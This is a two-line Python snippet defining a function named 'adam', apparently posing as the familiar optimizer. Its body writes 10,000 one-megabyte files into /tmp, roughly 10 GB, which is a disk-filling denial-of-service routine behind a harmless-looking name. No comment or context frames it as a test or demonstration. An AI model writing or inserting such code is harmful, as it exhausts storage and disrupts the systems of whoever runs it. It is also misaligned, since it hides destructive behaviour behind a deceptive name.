def adam(*a):
    for i in range(10**4): open(f'/tmp/{i}', 'wb').write(b'x' * 10**6)
